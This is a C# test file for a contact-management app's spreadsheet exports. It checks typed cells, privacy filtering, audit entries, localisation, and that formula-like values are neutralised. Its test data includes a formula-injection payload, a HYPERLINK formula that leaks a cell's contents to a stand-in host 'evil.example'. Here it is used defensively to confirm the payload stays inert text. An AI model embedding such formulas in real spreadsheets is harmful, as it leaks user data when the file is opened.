using System.Text;
using ClosedXML.Excel;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using NetworkSaaS.Core.Data;
using NetworkSaaS.Core.Features.Accounts;
using NetworkSaaS.Core.Features.Audit;
using NetworkSaaS.Core.Features.Contacts;
using NetworkSaaS.Core.Features.Exports;
using NetworkSaaS.Core.Features.Organization;
using NetworkSaaS.Core.Features.Tenancy;
using NetworkSaaS.Tests.Infrastructure;
using NetworkSaaS.Web.Features.Contacts;
using NetworkSaaS.Web.Features.Contacts.Interchange;

namespace NetworkSaaS.Tests.Exports;

/// <summary>The contact exports read back: what is in them (and what privacy keeps out), typed cells, no formulas.</summary>
public sealed class ContactExportTests(PostgresCluster cluster, ClassApp shared) : ClassAppTest(cluster, shared)
{
    private readonly string _orbitSlug = Slug("orbit");

    private readonly SettableClock _clock = new(new DateTimeOffset(2026, 3, 10, 9, 0, 0, TimeSpan.Zero));

    protected override void ConfigureServices(IServiceCollection services) => services.AddSingleton<TimeProvider>(_clock);

    private sealed record Data(Tenant Tenant, AppUser Admin, AppUser Hr, AppUser Kenji);

    private static readonly string[] EnglishHeaders =
    [
        "Name", "Reading", "Company", "Department", "Title", "Emails", "Phones", "Web", "Address", "Tags", "Their expertise", "Notes",
        "How we met", "Met on", "Relationship depth", "Open to",
    ];

    private async Task<Data> SeedAsync()
    {
        var (tenant, admin) = await App.CreateTenantAsync(_orbitSlug);
        var hr = await App.CreateUserAsync(tenant, $"hana@{_orbitSlug}.test", Roles.HR);
        var kenji = await App.CreateUserAsync(tenant, $"kenji@{_orbitSlug}.test");
        await App.InTenantAsync(tenant, async sp =>
        {
            var db = sp.GetRequiredService<AppDbContext>();
            var sales = new Department { Name = "Sales" };
            db.Departments.Add(sales);
            await db.SaveChangesAsync();
            await db.Users.Where(u => u.Id == kenji.Id).ExecuteUpdateAsync(s => s.SetProperty(u => u.DepartmentId, sales.Id).SetProperty(u => u.DisplayName, "Kenji Mori"));
            return true;
        });
        await AddContactAsync(tenant, kenji.Id, new ContactInput
        {
            FamilyName = "Nakamura", GivenName = "Yui", FamilyNameKana = "なかむら", GivenNameKana = "ゆい",
            CompanyName = "Hikari Logistics", Department = "=1+1", Title = Spreadsheets.InjectionAttempts[0],
            Emails = "yui@hikari.example", Phones = "+1 415 555 0100", Address = "_x0041_ stays", Tags = "@x", Notes = "-2",
            Channel = MeetingChannel.ExchangeEvent, MetOn = new DateOnly(2024, 6, 12), Depth = 4, OpenToSales = true, Visibility = ContactVisibility.Shared,
        });
        await AddContactAsync(tenant, kenji.Id, new ContactInput
        {
            FamilyName = "Smith", GivenName = "Jane", CompanyName = "Contoso", Emails = "jane@contoso.example", Visibility = ContactVisibility.Private,
        });
        await AddContactAsync(tenant, kenji.Id, new ContactInput
        {
            FamilyName = "Tanaka", GivenName = "Ken", CompanyName = "Fuji Works", Title = "CTO", Visibility = ContactVisibility.Discoverable,
        });
        await AddContactAsync(tenant, admin.Id, new ContactInput { FamilyName = "Okada", GivenName = "Rin", CompanyName = "Aoi Bank", Visibility = ContactVisibility.Shared });
        await AddContactAsync(tenant, admin.Id, new ContactInput { FamilyName = "Hidden", GivenName = "Person", Visibility = ContactVisibility.Private });
        return new Data(tenant, admin, hr, kenji);
    }

    private Task<bool> AddContactAsync(ITenantInfo tenant, Guid ownerId, ContactInput input) =>
        App.InTenantAsync(tenant, async sp =>
        {
            var contact = new Contact { OwnerId = ownerId };
            await sp.GetRequiredService<ContactWriter>().ApplyAsync(contact, input, CancellationToken.None);
            contact.CreatedAt = contact.UpdatedAt = _clock.GetUtcNow();
            var db = sp.GetRequiredService<AppDbContext>();
            db.Contacts.Add(contact);
            await db.SaveChangesAsync();
            return true;
        });

    private async Task<byte[]> ExportAsync(Data data, Guid ownerId, ExportKind kind, ExportFormat format, string culture = "en")
    {
        var id = await ExportRuns.CompletedAsync(App, data.Tenant, ownerId, kind, format, culture: culture);
        return (await ExportRuns.FileAsync(App, data.Tenant, id))!;
    }

    [Fact]
    public async Task My_contacts_as_xlsx_hold_all_of_them_as_typed_cells_with_formula_like_text_quoted_and_no_formula()
    {
        var data = await SeedAsync();

        var xlsx = await ExportAsync(data, data.Kenji.Id, ExportKind.MyContacts, ExportFormat.Xlsx);

        Assert.Empty(Spreadsheets.ValidationErrors(xlsx));
        Assert.Equal(0, Spreadsheets.FormulaCount(xlsx));
        Assert.False(Spreadsheets.UsesSharedStrings(xlsx));
        using var workbook = Spreadsheets.Open(xlsx);
        var sheet = workbook.Worksheet("Contacts");
        Assert.Equal([.. EnglishHeaders, "Visibility", "Last contact", "Next touch"], sheet.Row(1).CellsUsed().Select(c => c.GetString()));
        Assert.Equal(["Jane Smith", "Ken Tanaka", "Yui Nakamura"], sheet.Column(1).CellsUsed().Skip(1).Select(c => c.GetString())); // sort-key order
        var yui = sheet.Row(4);
        Assert.Equal(("なかむら ゆい", "Hikari Logistics", "=1+1"), (yui.Cell(2).GetString(), yui.Cell(3).GetString(), yui.Cell(4).GetString()));
        Assert.Equal(Spreadsheets.InjectionAttempts[0], yui.Cell(5).GetString());
        Assert.Equal(("yui@hikari.example", "+1 415 555 0100", "@x", "-2"), (yui.Cell(6).GetString(), yui.Cell(7).GetString(), yui.Cell(10).GetString(), yui.Cell(12).GetString()));
        foreach (var column in new[] { 4, 5, 7, 10, 12 })
        {
            Assert.Equal(XLDataType.Text, yui.Cell(column).DataType);
            Assert.True(yui.Cell(column).Style.IncludeQuotePrefix, $"column {column}");
        }

        Assert.False(yui.Cell(3).Style.IncludeQuotePrefix);
        Assert.Equal("Business exchange event", yui.Cell(13).GetString());
        Assert.Equal((XLDataType.DateTime, new DateTime(2024, 6, 12)), (yui.Cell(14).DataType, yui.Cell(14).GetDateTime()));
        Assert.Equal((XLDataType.Number, 4.0), (yui.Cell(15).DataType, yui.Cell(15).GetDouble()));
        Assert.Equal(("Sales introductions", "Shared"), (yui.Cell(16).GetString(), yui.Cell(17).GetString()));
        Assert.Equal(["Private", "Discoverable", "Shared"], sheet.Column(17).CellsUsed().Skip(1).Select(c => c.GetString()));
        Assert.Equal("A1:S4", sheet.AutoFilter.Range.RangeAddress.ToString());
        Assert.Equal(1, sheet.SheetView.SplitRow);
        Assert.All(Enumerable.Range(1, 19), c => Assert.InRange(sheet.Column(c).Width, 5, 61));
        Assert.True(sheet.Column(5).Width > sheet.Column(15).Width, "the long title gets a wider column than the depth");

        var export = await ExportRuns.LoadAsync(App, data.Tenant, (await App.InTenantAsync(data.Tenant, sp => sp.GetRequiredService<AppDbContext>().ExportRequests.Select(e => e.Id).SingleAsync())));
        Assert.Equal(("networksaas-my-contacts-20260310.xlsx", 3, 3, (long)xlsx.Length), (export.FileName, export.TotalRows, export.ProcessedRows, export.FileSize!.Value));
    }

    [Fact]
    public async Task LibreOffice_opens_the_streamed_xlsx_and_reads_every_formula_like_cell_as_the_text_it_is()
    {
        var data = await SeedAsync();
        var xlsx = await ExportAsync(data, data.Kenji.Id, ExportKind.MyContacts, ExportFormat.Xlsx);

        var csv = Assert.Single(await Spreadsheets.LibreOfficeCsvAsync(xlsx));

        Assert.Equal("Contacts", csv.Key);
        var lines = csv.Value.Split('\n');
        Assert.StartsWith("Name,Reading,Company,Department,Title,", lines[0], StringComparison.Ordinal);
        Assert.StartsWith("Yui Nakamura,なかむら ゆい,Hikari Logistics,=1+1,\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",", lines[3], StringComparison.Ordinal);
        Assert.Contains(",_x0041_ stays,@x,", lines[3], StringComparison.Ordinal);
        Assert.Contains(",-2,Business exchange event,2024-06-12,4,", lines[3], StringComparison.Ordinal);
        Assert.StartsWith("Jane Smith,", lines[1], StringComparison.Ordinal);
    }

    [Fact]
    public async Task My_contacts_as_csv_are_the_import_template_with_bom_rfc_4180_and_neutralised_cells_and_import_again()
    {
        var data = await SeedAsync();

        var csv = await ExportAsync(data, data.Kenji.Id, ExportKind.MyContacts, ExportFormat.Csv);

        Assert.Equal([0xEF, 0xBB, 0xBF], csv[..3]);
        var text = Encoding.UTF8.GetString(csv[3..]);
        Assert.StartsWith(ContactFileReader.GenericCsvTemplateHeader + "\r\n", text, StringComparison.Ordinal);
        Assert.Contains("Nakamura,Yui,なかむら,ゆい,Hikari Logistics,'=1+1,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",yui@hikari.example,'+1 415 555 0100,,_x0041_ stays,'@x,'-2,2024-06-12\r\n", text, StringComparison.Ordinal);
        var read = ContactFileReader.Read(csv, "export.csv");
        Assert.Equal(ContactFileFormat.GenericCsv, read.Format);
        Assert.Equal(["Smith", "Tanaka", "Nakamura"], read.Contacts.Select(c => c.FamilyName));
    }

    [Fact]
    public async Task The_company_export_holds_only_shared_contacts_with_the_colleague_who_knows_them_and_is_audited()
    {
        var data = await SeedAsync();

        var xlsx = await ExportAsync(data, data.Hr.Id, ExportKind.CompanyContacts, ExportFormat.Xlsx);

        Assert.Empty(Spreadsheets.ValidationErrors(xlsx));
        Assert.Equal(0, Spreadsheets.FormulaCount(xlsx));
        using var workbook = Spreadsheets.Open(xlsx);
        var sheet = workbook.Worksheet(1);
        Assert.Equal([.. EnglishHeaders, "Last contact", "Next touch", "Colleague who knows them", "Colleague's department"],
            sheet.Row(1).CellsUsed().Select(c => c.GetString()));
        Assert.Equal(["Rin Okada", "Yui Nakamura"], sheet.Column(1).CellsUsed().Skip(1).Select(c => c.GetString()));
        Assert.Equal(("Kenji Mori", "Sales"), (sheet.Cell(3, 19).GetString(), sheet.Cell(3, 20).GetString()));
        Assert.Equal(($"{_orbitSlug} Admin", ""), (sheet.Cell(2, 19).GetString(), sheet.Cell(2, 20).GetString()));
        var everything = string.Join("|", sheet.CellsUsed().Select(c => c.GetString()));
        foreach (var hidden in new[] { "Smith", "jane@contoso.example", "Tanaka", "Fuji Works", "Hidden" })
        {
            Assert.DoesNotContain(hidden, everything, StringComparison.Ordinal);
        }

        var audit = await App.InTenantAsync(data.Tenant, sp => sp.GetRequiredService<AppDbContext>().AuditEntries
            .Where(a => a.Action == AuditActions.CompanyContactsExported).ToListAsync());
        var entry = Assert.Single(audit);
        Assert.Equal((data.Hr.Id, "2 shared contacts"), (entry.ActorUserId, entry.Subject));

        var csv = Encoding.UTF8.GetString((await ExportAsync(data, data.Hr.Id, ExportKind.CompanyContacts, ExportFormat.Csv))[3..]);
        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(ContactFileReader.GenericCsvTemplateHeader + ",owner,owner_department", lines[0]);
        Assert.Equal(3, lines.Length);
        Assert.EndsWith(",2024-06-12,Kenji Mori,Sales", lines[2], StringComparison.Ordinal);
        Assert.DoesNotContain("Smith", csv, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Headings_and_labels_are_in_the_language_the_requester_read_the_page_in()
    {
        var data = await SeedAsync();

        var xlsx = await ExportAsync(data, data.Kenji.Id, ExportKind.MyContacts, ExportFormat.Xlsx, culture: "ja");

        using var workbook = Spreadsheets.Open(xlsx);
        var sheet = workbook.Worksheet("連絡先");
        Assert.Equal(("氏名", "会社"), (sheet.Cell(1, 1).GetString(), sheet.Cell(1, 3).GetString()));
        Assert.Equal(("非公開", "共有"), (sheet.Cell(2, 17).GetString(), sheet.Cell(4, 17).GetString()));
        Assert.Equal(2, Assert.Single(await App.InTenantAsync(data.Tenant, sp => sp.GetRequiredService<AppDbContext>().ExportRequests.Select(e => e.Culture.Length).ToListAsync())));
    }
}
